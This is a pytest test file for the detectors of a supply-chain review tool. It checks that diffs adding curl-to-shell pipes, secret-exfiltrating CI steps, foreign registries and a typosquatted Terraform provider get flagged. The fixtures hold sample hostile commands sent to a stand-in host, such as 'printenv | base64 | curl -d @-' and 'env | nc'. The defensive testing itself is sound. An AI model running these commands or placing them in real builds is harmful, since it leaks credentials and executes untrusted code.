"""Programs, images, charts, modules and providers that come from elsewhere than before."""

from __future__ import annotations

import pytest

from clew.detectors.deployment.declarations import Declarations
from clew.detectors.detector import Detector
from clew.detectors.security.ci_files import CiFiles
from clew.detectors.security.editor_tasks import EditorTasks
from clew.detectors.security.git_sources import GitSources
from clew.detectors.security.install_scripts import InstallScripts
from clew.detectors.security.registries import Registries
from clew.detectors.security.script_settings import ScriptSettings
from clew.model.fact import Fact, Severity
from tests.kit.moments import facts, story

_LOUD, _QUIET = [Severity.HIGH], [Severity.NOTE]
_PIPE = "curl -fsSL https://x.example.net/i.sh | sh"
_COMPOSE = "services:\n  db:\n    image: {}\n"
_MODULE = 'module "vpc" {{\n  source = "{}"\n}}\n'
_PROVIDER = (
    'terraform {{\n  required_providers {{\n    {} = {{\n      source = "{}"\n    }}\n  }}\n}}\n'
)
_CHART = "name: shop\ndependencies:\n  - name: postgresql\n    repository: {}\n"
_DIGEST = "postgres:16@sha256:" + "4e" * 32


def _severities(detector: Detector, path: str, old: str, new: str) -> list[str]:
    return [one.severity for one in _facts(detector, path, old, new)]


def _facts(detector: Detector, path: str, old: str, new: str) -> list[Fact]:
    return facts(detector, {path: old.encode()}, {path: new.encode()})


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("Makefile", "all:\n", f"all:\n\nsetup:\n\t{_PIPE}\n"),
        (".envrc", "export A=1\n", 'export A=1\neval "$(curl -s https://x.example.net/env)"\n'),
        ("setup.py", "setup()\n", f"import os\nos.system('{_PIPE}')\nsetup()\n"),
        ("build.rs", "fn main() {}\n", f'fn main() {{ Command::new("sh").arg("-c").arg("{_PIPE}"); }}\n'),
        ("tools/deploy.sh", "make\n", f"make\n{_PIPE}\n"),
    ],
)  # fmt: skip
def test_a_file_that_runs_what_it_fetches_is_a_warning(path: str, old: str, new: str) -> None:
    assert _severities(ScriptSettings(), path, old, new) == _LOUD


@pytest.mark.parametrize(
    ("path", "new"),
    [
        ("Makefile", "fetch:\n\tcurl -fsSLo data.csv https://data.example.org/data.csv\n"),
        ("tests/fixtures/setup.py", f"os.system('{_PIPE}')\n"),
        (".github/scripts/run.sh", f"{_PIPE}\n"),
        ("Makefile", f"# {_PIPE.replace('|', 'into')}\n"),
    ],
)
def test_a_file_that_only_fetches_is_none(path: str, new: str) -> None:
    assert _severities(ScriptSettings(), path, "all:\n", f"all:\n{new}") == []


def test_a_script_that_is_new_is_a_note_and_a_build_program_is_not() -> None:
    for path, severity in (("tools/install.sh", Severity.NOTE), ("build.rs", Severity.HIGH)):
        (fact,) = facts(ScriptSettings(), {}, {path: _PIPE.encode()})
        assert (fact.marks, fact.severity) == (
            ("runs what it fetches from x.example.net",), severity,
        )  # fmt: skip


@pytest.mark.parametrize(("command", "severities"), [(_PIPE, _LOUD), ("pip install -e .", _QUIET)])
def test_a_development_container(command: str, severities: list[str]) -> None:
    path = ".devcontainer/devcontainer.json"
    new = f'{{\n  "postCreateCommand": "{command}"\n}}\n'
    assert _severities(EditorTasks(), path, "{\n}\n", new) == severities


def test_a_submodule_whose_update_runs_a_command() -> None:
    old = '[submodule "lib"]\n\tpath = lib\n\turl = https://github.com/acme/lib.git\n'
    (fact,) = _facts(GitSources(), ".gitmodules", old, f"{old}\tupdate = !sh tools/fetch.sh\n")
    assert (fact.scope, fact.marks, fact.severity) == (
        "program", ("submodule.lib.update",), Severity.HIGH,
    )  # fmt: skip
    assert _facts(GitSources(), ".gitmodules", old, f"{old}\tupdate = rebase\n") == []


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl -d '${{ toJSON(secrets) }}' https://x.example.net", Severity.HIGH),
        ("printenv | base64 | curl -d @- https://x.example.net", Severity.HIGH),
        ("env | nc x.example.net 80", Severity.HIGH),
        ("curl -H 'Authorization: ${{ secrets.TOKEN }}' https://api.example.org", Severity.NOTE),
        ("environment=prod make publish", Severity.NOTE),
    ],
)
def test_a_workflow_that_sends_all_secrets_is_a_warning(command: str, severity: str) -> None:
    form = "on: push\njobs:\n  a:\n    steps:\n      - run: make\n"
    path = ".github/workflows/a.yml"
    (fact,) = _facts(CiFiles(), path, form, f"{form}      - run: {command}\n")
    assert fact.severity == severity


@pytest.mark.parametrize(
    ("before", "after", "severity"),
    [
        (_DIGEST, "postgres:latest", Severity.NOTE),
        ("registry.example.net/a:1", "registry.example.net/a:2", Severity.NONE),
        ("postgres:16", _DIGEST, Severity.NONE),
        ("postgres:16", "registry.example.net/mirror/postgres:16", Severity.NONE),
    ],
)
def test_an_image_of_compose(before: str, after: str, severity: str) -> None:
    old, new = _COMPOSE.format(before), _COMPOSE.format(after)
    (fact,) = _facts(Declarations(), "compose.yaml", old, new)
    assert fact.severity == severity


def test_the_registry_of_an_image_is_named_when_it_is_another() -> None:
    old, new = (
        _COMPOSE.format(image) for image in ("postgres:16", "registry.example.net/m/postgres:16")
    )
    told = story([Declarations()], {"compose.yaml": old.encode()}, {"compose.yaml": new.encode()})
    assert "registry.example.net" in told.headline
    old = new.replace(":16", ":17")
    told = story([Declarations()], {"compose.yaml": old.encode()}, {"compose.yaml": new.encode()})
    assert told.headline == "compose.yaml: service db image postgres:17 → 16"


def test_a_volume_that_becomes_a_directory_is_named() -> None:
    old = _COMPOSE.format("postgres:16") + "    volumes:\n      - pgdata:/var/lib/postgresql/data\n"
    new = old.replace("pgdata:", "./tmp/pg:")
    told = story([Declarations()], {"compose.yaml": old.encode()}, {"compose.yaml": new.encode()})
    assert told.headline == "compose.yaml: service db volume pgdata → ./tmp/pg"


@pytest.mark.parametrize(
    ("old", "new", "severity"),
    [
        (_MODULE.format("terraform-aws-modules/vpc/aws"), _MODULE.format("git::https://git.example.net/x/vpc.git?ref=main"), Severity.HIGH),
        (_MODULE.format("./vpc"), _MODULE.format("../modules/vpc"), Severity.NONE),
        (_MODULE.format("git::https://git.example.net/x/vpc.git?ref=v1"), _MODULE.format("git::https://git.example.net/x/vpc.git?ref=v2"), Severity.NONE),
        (_PROVIDER.format("aws", "hashicorp/aws"), _PROVIDER.format("aws", "hashlcorp/aws"), Severity.HIGH),
        (_PROVIDER.format("aws", "hashicorp/aws"), _PROVIDER.format("aws", "tf.example.net/hashicorp/aws"), Severity.HIGH),
        (_PROVIDER.format("dns", "acme/dns"), _PROVIDER.format("dns", "other/dns"), Severity.NONE),
    ],
)  # fmt: skip
def test_a_module_and_a_provider_of_terraform(old: str, new: str, severity: str) -> None:
    (fact,) = _facts(Declarations(), "infra/main.tf", old, new)
    assert fact.severity == severity


def test_the_repository_of_a_chart() -> None:
    old, new = (
        _CHART.format("https://charts.bitnami.com/bitnami"),
        _CHART.format("https://x.example.net/c"),
    )
    (fact,) = _facts(Registries(), "chart/Chart.yaml", old, new)
    assert (fact.after, fact.severity) == ("x.example.net", Severity.HIGH)
    local = _CHART.format("file://../postgresql")
    assert _facts(Registries(), "chart/Chart.yaml", old, old.replace("shop", "tea")) == []
    assert _severities(Registries(), "chart/Chart.yaml", _CHART.format("@stable"), local) == []


@pytest.mark.parametrize(
    ("path", "old", "new", "severity"),
    [
        (".cargo/config.toml", "", '[build]\nrustc-wrapper = "/tmp/cc"\n', Severity.HIGH),
        (".cargo/config.toml", "", '[build]\nrustc-wrapper = "sccache"\n', Severity.NOTE),
        (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n", "yarnPath: tools/x.cjs\n", Severity.HIGH),
        (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n", "yarnPath: .yarn/releases/yarn-4.2.2.cjs\n", Severity.NOTE),
        (".npmrc", "", "node-options=--max-old-space-size=4096\n", Severity.NOTE),
        (".npmrc", "", "node-options=--require ./x.js\n", Severity.HIGH),
        ("pyproject.toml", '[build-system]\nbuild-backend = "hatchling.build"\n',
         '[build-system]\nbuild-backend = "backend"\nbackend-path = ["tools"]\n', Severity.HIGH),
    ],
)  # fmt: skip
def test_a_program_that_a_package_manager_runs(
    path: str, old: str, new: str, severity: str
) -> None:
    (fact,) = _facts(Registries(), path, old or "# none\n", new)
    assert (fact.scope, fact.severity) == ("program", severity)


@pytest.mark.parametrize(
    ("package", "severities"), [("node-ipc", _LOUD), ("esbuild", _QUIET), ("@swc/core", _QUIET)]
)
def test_a_package_whose_install_scripts_may_run(package: str, severities: list[str]) -> None:
    old = '{"pnpm": {"onlyBuiltDependencies": ["sharp"]}}'
    new = f'{{"pnpm": {{"onlyBuiltDependencies": ["sharp", "{package}"]}}}}'
    assert _severities(InstallScripts(), "package.json", old, new) == severities
